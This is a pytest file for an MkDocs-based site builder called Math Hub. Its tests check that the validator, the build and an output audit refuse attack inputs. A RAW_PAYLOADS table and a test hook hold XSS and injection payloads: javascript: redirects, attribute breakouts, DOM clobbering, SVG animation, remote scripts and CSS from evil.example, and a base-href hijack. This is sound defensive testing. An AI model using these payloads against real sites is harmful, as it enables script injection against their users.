"""Issue 10's attack classes, end to end: the validator names each input, the build leaves all of it out, and
the output audit catches any payload that reaches the HTML by another door (tests/browser/test_attacks_browser.py
opens every page in Chromium)."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from attack_library import SVGS
from conftest import build_site, copy_library, run
from mathhub.audit import audit_html, audit_site
from pagefind_index import search_pages

SAFE_ID = re.compile(r"[a-z0-9]+(?:-[a-z0-9]+)*|mh-[a-z0-9_-]+|__[a-z_0-9]+")  # content ids, Math Hub's templates, the theme's
ATTACK_FILES = {
    1: ["content/cartridges/attack-metadata/index.md", "content/rubrics/attack-metadata-rubric.md"],
    2: ["content/cartridges/attack-heading-ids/index.md"],
    3: ["content/cartridges/attack-clobbering/index.md"],
    4: [f"content/cartridges/attack-svg/{name}" for name in SVGS],
    5: ["content/evil.html", "content/notes/page.md", "content/contribute/extra.md", "content/cartridges/attack-linked-folder"],
    7: ["content/cartridges/attack-small-holes/index.md"],
}


@pytest.fixture(scope="module")
def site(attack_site: tuple[Path, Path, subprocess.CompletedProcess[str]]) -> Path:
    repo, built, result = attack_site
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Traceback" not in result.stderr
    return built


@pytest.mark.parametrize("attack_class", sorted(ATTACK_FILES))
def test_the_validator_names_every_attack_input(attack_class: int, attack_site) -> None:  # type: ignore[no-untyped-def]
    repo = attack_site[0]
    result = run(["mathhub", "validate", "--format", "json"], cwd=repo)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    errors = {p["path"] for p in json.loads(result.stdout)["problems"] if p["severity"] == "error"}
    for path in ATTACK_FILES[attack_class]:
        if attack_class == 1 and path.endswith("index.md"):
            continue  # metadata-looking lines in a guide are only text now; the <img onerror> in them is reported below
        assert path in errors, path


def test_the_build_ran_the_audit_and_it_found_nothing(attack_site) -> None:  # type: ignore[no-untyped-def]
    result = attack_site[2]
    assert result.returncode == 0
    assert re.search(r"Output audit: \d+ HTML pages and \d+ SVG files checked", result.stderr)


def test_only_known_files_are_published(site: Path) -> None:
    assert not (site / "evil.html").exists() and not (site / "notes").exists() and not (site / "contribute/extra").exists()
    assert not (site / "cartridges/attack-linked-folder").exists()
    published = sorted(p.name for p in (site / "cartridges/attack-files").iterdir())
    assert published == ["answer-key", "handout", "index.html", "practice", "sharing-cards.pdf"]  # its pages and the attachment it lists
    assert not list((site / "cartridges/attack-svg").glob("*.[sS][vV][gG]"))
    for svg in (site / "cartridges").rglob("*"):
        assert not svg.name.lower().endswith(".svg"), svg  # the fixture library shows no images; every attack SVG was refused


def test_metadata_never_comes_from_a_body(site: Path) -> None:
    page = (site / "cartridges/attack-metadata/index.html").read_text(encoding="utf-8")
    assert "<title>Fixture: Sharing Sandwiches - " in page
    assert "http-equiv" not in page and "window.location.replace" not in page
    assert "<p>template: redirect.html" in page  # shown as text, like any other sentence
    rubric = (site / "rubrics/attack-metadata-rubric/index.html").read_text(encoding="utf-8")
    assert not re.search(r"<[^>]*\sonerror", rubric) and 'name="author"' not in rubric  # the lines are text, escaped
    records = search_pages(site)  # the search index is made from the model: a body cannot change what it holds
    assert "cartridges/attack-metadata/" in records
    assert records["cartridges/attack-metadata/"]["meta"]["title"].startswith("Fixture: Sharing Sandwiches")


def test_heading_ids_are_generated_and_unique(site: Path) -> None:
    for page in ("cartridges/attack-heading-ids/index.html", "cartridges/attack-heading-ids/handout/index.html", "cartridges/attack-clobbering/index.html"):
        text = (site / page).read_text(encoding="utf-8")
        ids = re.findall(r'\sid="([^"]*)"', text)
        assert len(ids) == len(set(ids)), page
        assert all(SAFE_ID.fullmatch(i) for i in ids), [i for i in ids if not SAFE_ID.fullmatch(i)]
        assert text.count('id="__config"') == 1 and text.count('id="__search"') == 1


# One payload per class, as it would look had it reached a page raw (the doors the renderer closes).
RAW_PAYLOADS = {
    "class 1: another template's redirect": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "class 1: template script": '<script>window.location.replace(["javascript:alert(1)"].join(""))</script>',
    "class 2: id breaking out of its attribute": '<h2 id="x" onfocus="alert(1)" autofocus>Launch</h2>',
    "class 3: a second __config": '<div id="__config">{"base": "https://evil.example"}</div>',
    "class 3: a named image": '<img name="getElementById" src="x.png" alt="x">',
    "class 4: inline SVG animation": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    "class 5: a script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "class 7: backslash host": '<img src="\\\\evil.example/x.png" alt="x">',
    "class 7: protocol-relative": '<img src="//evil.example/x.png" alt="x">',
    "class 7: CSS import": "<style>@import url(https://evil.example/x.css);</style>",
    "class 7: CSS url": '<p style="background:url(//evil.example/x.png)">x</p>',
    "javascript link": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "data link": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    "base": '<base href="https://evil.example/">',
    "iframe": '<iframe src="/"></iframe>',
}


@pytest.mark.parametrize("name", sorted(RAW_PAYLOADS))
def test_the_audit_catches_each_payload_that_reaches_a_page(name: str, site: Path) -> None:
    text = (site / "cartridges/attack-clobbering/index.html").read_text(encoding="utf-8")
    assert audit_html(text, "cartridges/attack-clobbering/index.html") == []
    poisoned = text.replace('<div class="mh-guide">', '<div class="mh-guide">' + RAW_PAYLOADS[name], 1)
    assert audit_html(poisoned, "cartridges/attack-clobbering/index.html"), name


def test_the_audit_report_names_the_page_and_its_source(site: Path, tmp_path: Path) -> None:
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    page = copy / "cartridges/attack-clobbering/index.html"
    page.write_text(page.read_text(encoding="utf-8").replace('<div class="mh-guide">', '<div class="mh-guide">' + "".join(RAW_PAYLOADS.values()), 1), encoding="utf-8")
    report = audit_site(copy, sources={"cartridges/attack-clobbering/index.html": "content/cartridges/attack-clobbering/index.md"})
    assert len(report.problems) >= len(RAW_PAYLOADS)
    assert {p.path for p in report.problems} == {"site/cartridges/attack-clobbering/index.html"}
    assert all("Built from content/cartridges/attack-clobbering/index.md" in p.hint for p in report.problems)


def test_the_audit_refuses_unsafe_svg_and_pages_without_the_template(site: Path, tmp_path: Path) -> None:
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    (copy / "cartridges/attack-svg/Upper.SVG").write_text(SVGS["Upper.SVG"], encoding="utf-8")
    (copy / "redirect.html").write_text('<!doctype html><html><head><title>x</title></head><body></body></html>', encoding="utf-8")
    messages = [(p.path, p.message) for p in audit_site(copy).problems]
    assert ("site/cartridges/attack-svg/Upper.SVG", "the SVG element <script> is not allowed") in [(path, m.split(": ", 1)[-1]) for path, m in messages]
    assert any(path == "site/redirect.html" and "template" in message for path, message in messages)


def test_the_theme_pages_pass_and_a_clean_fragment_passes() -> None:
    clean = '<!doctype html><html><head><meta name="mathhub-template" content="main"><title>x</title></head><body><a href="https://example.org">out</a><img src="data:image/png;base64,AAAA" alt="x"></body></html>'
    assert audit_html(clean) == []


def test_a_late_payload_fails_the_build_naming_page_and_source(tmp_path: Path) -> None:
    """A plugin or hook that writes after Math Hub renders is still caught: the audit reads the written files."""
    repo = copy_library(tmp_path / "repo")
    (repo / "hooks.py").write_text(
        "def on_post_page(output, page, config):\n"
        "    if page.file.src_uri == 'cartridges/fixture-sharing/index.md':\n"
        "        return output.replace('</article>', '<img src=x onerror=alert(1)></article>')\n"
        "    return output\n",
        encoding="utf-8",
    )
    with (repo / "mkdocs.yml").open("a", encoding="utf-8") as config:
        config.write("\nhooks:\n  - hooks.py\n")
    result = build_site(repo, repo / "site")
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "output audit found unsafe output" in result.stderr
    assert "site/cartridges/fixture-sharing/index.html" in result.stderr and "onerror" in result.stderr
    assert "Built from content/cartridges/fixture-sharing/index.md" in result.stderr


def test_the_audit_of_rewritten_pages_checks_those_pages_only(site: Path, tmp_path: Path) -> None:
    """`mkdocs serve` audits only the pages a save rewrote (``only``): a payload there is found, one elsewhere is not
    (the full build's audit finds that one). The search index is Pagefind's, written from the model's escaped text."""
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    payload = RAW_PAYLOADS["javascript link"]
    for page in ("cartridges/attack-clobbering/index.html", "cartridges/attack-metadata/index.html"):
        file = copy / page
        file.write_text(file.read_text(encoding="utf-8").replace('<div class="mh-guide">', '<div class="mh-guide">' + payload, 1), encoding="utf-8")
    report = audit_site(copy, only={"cartridges/attack-clobbering/index.html"})
    assert report.pages == 1
    assert {p.path for p in report.problems} == {"site/cartridges/attack-clobbering/index.html"}
    assert len(audit_site(copy).problems) >= 2
